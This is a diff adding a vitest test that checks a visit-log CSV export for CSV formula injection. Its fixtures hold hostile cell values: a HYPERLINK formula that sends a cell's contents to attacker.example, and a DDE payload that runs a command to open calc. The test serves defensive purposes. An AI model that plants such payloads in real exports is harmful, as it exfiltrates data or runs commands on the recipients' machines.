@@ -1,12 +1,13 @@
 import { execFileSync } from 'node:child_process';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { Readable } from 'node:stream';
 import ExcelJS from 'exceljs';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { CommandResult } from '../../shared/contract/commands';
 import type { ReportSummary } from '../../shared/report/summary';
 import { charterPresets } from '../../shared/charter/presets';
-import type { Compensation, Ledger } from '../../shared/contract/views';
+import type { Compensation, Ledger, Office } from '../../shared/contract/views';
 import { verifyEventChain } from '../../db/event-chain';
 import { openReadOnly } from '../../db/open-database';
 import { startTestHub, type TestHub } from '../support/test-hub';
@@ -129,6 +130,47 @@ describe('the visit log export', () => {
     expect(rows.map((r) => r[col('결과')])).toEqual(['완료', '완료', '완료', '완료', '완료', '부재']);
     expect(rows[0]![col('발급 시각')]).toBe('2026-11-23 09:30:00');
     expect(rows[0]![col('응대 목표(초)')]).toBe('10.0');
+  });
+
+  it('opens names that look like formulas as text (CSV injection)', async () => {
+    const office = (await t.get('/api/v1/office')).json as Office;
+    const department = office.departments.find((d) => d.id === 1)!;
+    const desk = office.desks.find((d) => d.id === 1)!;
+    const defined = [];
+    defined.push(
+      await t.post('defineDepartment', {
+        id: 1,
+        prefix: department.prefix,
+        nameKo: '=HYPERLINK("http://attacker.example/?"&A1,"민원")',
+        nameEn: department.nameEn,
+        tasks: department.tasks.map(({ nameKo, nameEn, keywords, id }) => ({ id, nameKo, nameEn, keywords })),
+      }),
+    );
+    defined.push(
+      await t.post('defineDesk', {
+        id: 1,
+        departmentId: 1,
+        nameKo: "@SUM(1+1)*cmd|' /C calc'!A0",
+        nameEn: desk.nameEn,
+        mode: desk.mode,
+      }),
+    );
+    defined.push(await t.post('defineStaff', { id: 3, login: 'manager.lee', name: '-2+3', role: 'manager' }));
+    expect(defined.map((r) => r.status)).toEqual([200, 200, 200]);
+    await t.post('setExportStaffNames', { include: true });
+    const text = (await download('csv')).body.toString('utf8').slice(1);
+    const [header, first] = parseCsv(text);
+    const cell = (name: string) => first![header!.indexOf(name)];
+    expect(cell('부서')).toBe(`'=HYPERLINK("http://attacker.example/?"&A1,"민원")`);
+    expect(cell('창구')).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    expect(cell('담당 직원')).toBe("'-2+3");
+
+    // A spreadsheet library reads every cell of the file as a value, none as a formula.
+    const workbook = new ExcelJS.Workbook();
+    const sheet = await workbook.csv.read(Readable.from([text]));
+    const values = sheet.getSheetValues().flatMap((row) => (Array.isArray(row) ? row.slice(1) : []));
+    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
+    expect(values.filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
   });
 
   it('names staff only when the office allows it', async () => {
